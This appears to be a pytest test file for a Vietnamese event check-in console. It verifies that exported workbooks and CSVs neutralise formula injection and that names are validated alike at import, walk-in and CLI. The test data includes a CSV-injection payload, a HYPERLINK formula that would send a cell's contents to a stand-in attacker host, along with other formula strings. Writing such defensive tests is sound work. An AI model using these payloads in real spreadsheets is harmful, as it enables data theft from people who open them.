"""Exports never carry live formulas; names are checked alike at import, walk-in and CLI;
bad input and unwritable folders get sentences (issue 17)."""

from __future__ import annotations

import csv
import errno
import io
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest

from console.door.checkin import register_walk_in
from console.ground.errors import UserError
from console.ground.formula import looks_like_formula
from console.importer import import_file
from console.people.entry import MAX_NAME, MAX_UNIT
from console.people.roster import Delegate
from console.record import export
from console.record.cells import csv_field

HOSTILE = ['=HYPERLINK("http://evil.example/?"&B12,"Bấm vào đây")', "=1+1", "+1+1", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def test_what_looks_like_a_formula():
    assert all(looks_like_formula(t) for t in HOSTILE)
    assert not any(looks_like_formula(t) for t in ("Nguyễn Văn A", "-5", "+84", "3,5", "", "Tổ 1 = tổ hay"))
    assert csv_field("=1+1") == "'=1+1" and csv_field("-5") == "-5" and csv_field(7) == 7


def _with_hostile_people(event) -> None:
    """People as an older version (or a hand-edited roster.json) may hold them, past every check."""
    people = dict(event.imported)
    extra = [Delegate(id=9001 + i, name=text, category="khach_moi", unit=HOSTILE[(i + 1) % len(HOSTILE)],
                      position=HOSTILE[(i + 2) % len(HOSTILE)], ethnicity="=1+1")
             for i, text in enumerate(HOSTILE)]

    def put(ev):
        ev.replace_roster(list(people.values()) + extra)
        return []
    event.transact(put)
    event.refresh()


def test_xlsx_and_csv_hold_the_hostile_texts_as_text(demo_event, tmp_path):
    _with_hostile_people(demo_event)
    out, csvs = export.write_report(demo_event, tmp_path / "bao-cao.xlsx", tmp_path / "csv")
    with zipfile.ZipFile(out) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s for s in sheets), "a live formula cell in the workbook"
    wb = openpyxl.load_workbook(out)
    found = [c for ws in wb for row in ws.iter_rows() for c in row if c.value in HOSTILE]
    assert {c.value for c in found} >= set(HOSTILE) - {"\r=1+1"}  # openpyxl reads "\r" back as "\n"-free text
    assert all(c.data_type == "s" and c.quotePrefix for c in found)
    fields = [f for p in csvs for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8-sig"))) for f in row]
    assert not [f for f in fields if looks_like_formula(f)], "a CSV field a spreadsheet would run"
    assert "'=1+1" in fields and "'" + HOSTILE[0] in fields


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice not installed")
def test_libreoffice_opens_the_hostile_texts_as_plain_text(demo_event, tmp_path):
    _with_hostile_people(demo_event)
    out, _ = export.write_report(demo_event, tmp_path / "bao-cao.xlsx")
    profile = Path(tempfile.mkdtemp(prefix="lo-profile-"))
    try:
        # The attendance sheet (first) as LibreOffice computes it: a formula would show its result.
        proc = subprocess.run(["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                               "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                               "--outdir", str(tmp_path / "lo"), str(out)], capture_output=True, text=True, timeout=180)
        assert proc.returncode == 0, proc.stderr
        fields = [f for p in (tmp_path / "lo").glob("*.csv")
                  for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8", errors="replace"))) for f in row]
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    assert fields, "LibreOffice wrote nothing"
    for text in ('=HYPERLINK("http://evil.example/?"&B12,"Bấm vào đây")', "=1+1", "+1+1", "-2+3", "@SUM(1,2)"):
        assert text in fields, f"{text!r} did not open as its own text"
    # "=1+1", "+1+1" and "-2+3" computed would be 2, 2 and 1 in the cells where the texts are.
    assert fields.count("=1+1") >= 2


# --- names checked alike ------------------------------------------------------------------

def test_the_importer_refuses_formula_names_and_overlong_fields(demo_event, tmp_path):
    long_unit = "Công ty " + "X" * (MAX_UNIT - 7)
    rows = ["STT,Họ và tên,Năm sinh,Đơn vị,Thành phần",
            "1,+84 912 345 678,1980,Xã Nà Mò,Cá nhân",
            "2,@SUM(A1),1981,Xã Nà Mò,Cá nhân",
            f"3,Lò{' Văn' * 25},1982,Xã Nà Mò,Cá nhân",
            f"4,Tô Văn Bàn,1983,{long_unit},Cá nhân",
            f"5,{'A' * MAX_NAME},1984,Xã Nà Mò,Cá nhân"]  # exactly the limit: accepted
    path = tmp_path / "ds.csv"
    path.write_text("\n".join(rows), encoding="utf-8")
    with pytest.raises(UserError) as err:
        import_file(demo_event, path, dry_run=True)
    details = "\n".join(err.value.details)
    assert "Dòng 2" in details and "như một công thức Excel" in details
    assert "Dòng 3" in details and "bắt đầu bằng “@”" in details
    assert "Dòng 4" in details and f"dài 102 ký tự, quá giới hạn {MAX_NAME}" in details
    assert "Dòng 5" in details and f"dài {MAX_UNIT + 1} ký tự, quá giới hạn {MAX_UNIT}" in details
    assert "Dòng 6" not in details
    assert "…" in details  # an overlong value is quoted cut, not whole


def test_walk_in_checks_names_like_the_importer(demo_event):
    for bad, said in (("=1+1", "công thức Excel"), ("N" * 1993, "dài 1993 ký tự"), ("Tô Văn \udcf4", "UTF-8")):
        with pytest.raises(UserError) as err:
            register_walk_in(demo_event, name=bad, unit="Xã Nà Mò", category="khach_moi")
        assert said in str(err.value)
    before = len(demo_event.journal.entries)
    assert len(demo_event.journal.entries) == before
    ok = register_walk_in(demo_event, name="N" * MAX_NAME, unit="Xã Nà Mò", category="khach_moi")
    assert ok.delegate is not None and len(ok.delegate.name) == MAX_NAME


def test_cli_walk_in_with_a_byte_that_is_not_utf8_gets_a_sentence(demo_dir, cli):
    before = (demo_dir / "journal.jsonl").read_bytes()
    proc = cli("walkin", demo_dir, "--name", "T\udcf4 V\udce3n A", "--unit", "Xã Nà Mò", "--category", "khach_moi")
    assert proc.returncode != 0
    assert "không phải mã UTF-8" in proc.stderr
    assert "Traceback" not in proc.stderr and "không mong đợi" not in proc.stderr
    assert (demo_dir / "journal.jsonl").read_bytes() == before  # nothing half-written


def test_cli_walk_in_with_a_formula_name_is_refused(demo_dir, cli):
    proc = cli("walkin", demo_dir, "--name", '=HYPERLINK("http://x","y")', "--unit", "Xã Nà Mò",
               "--category", "khach_moi")
    assert proc.returncode != 0 and "công thức Excel" in proc.stderr and "Traceback" not in proc.stderr


# --- folders that cannot be written ------------------------------------------------------

@pytest.mark.parametrize("code,said,not_said", [
    (errno.EACCES, "Không có quyền ghi", "chỉ cho đọc"),
    (errno.EROFS, "chỉ cho đọc", "chmod"),
])
def test_report_into_an_unwritable_folder_is_a_sentence(demo_event, tmp_path, monkeypatch, code, said, not_said):
    import tempfile as tf

    def refuse(*a, **k):
        raise OSError(code, "refused")
    monkeypatch.setattr(tf, "mkstemp", refuse)  # the temp file is the first write
    with pytest.raises(UserError) as err:
        export.write_report(demo_event, tmp_path / "bao-cao.xlsx")
    assert said in str(err.value) and not_said not in str(err.value)
    assert not (tmp_path / "bao-cao.xlsx").exists()


@pytest.fixture
def read_only_mount(tmp_path):
    where = tmp_path / "ro"
    where.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(where)], capture_output=True)
    if done.returncode != 0:
        pytest.skip("cannot mount a read-only file system here")
    yield where
    subprocess.run(["umount", str(where)], capture_output=True)


def test_cli_report_on_a_read_only_file_system_says_so(demo_dir, cli, read_only_mount):
    proc = cli("report", demo_dir, "--out", read_only_mount / "bao-cao.xlsx")
    assert proc.returncode != 0
    assert "chỉ cho đọc" in proc.stderr and "chmod" not in proc.stderr
    assert "Traceback" not in proc.stderr and "không mong đợi" not in proc.stderr


@pytest.mark.asyncio
async def test_the_walk_in_form_refuses_a_formula_name_typed_key_by_key(demo_app):
    from tests.ui import until

    app = demo_app("desk", role="desk", desk="ban-1")
    async with app.run_test(size=(80, 24)) as pilot:
        before = len(app.event.journal.entries)
        await pilot.press("f7")
        await until(pilot, lambda: type(app.screen).__name__ == "WalkInDialog", what="the form")
        dialog = app.screen
        dialog.query_one("#walkin-name").focus()
        await pilot.press(*"=1+1")
        for fid, value in (("unit", "Báo Lào Cai"), ("gender", "nam")):
            dialog.query_one(f"#walkin-{fid}").value = value
        await pilot.press("f2")
        await until(pilot, lambda: "công thức Excel" in str(dialog.query_one("#walkin-error").render()),
                    what="the sentence on the form")
        assert type(app.screen).__name__ == "WalkInDialog"  # still open, to correct
        assert len(app.event.journal.entries) == before and not app.event.day.walk_ins
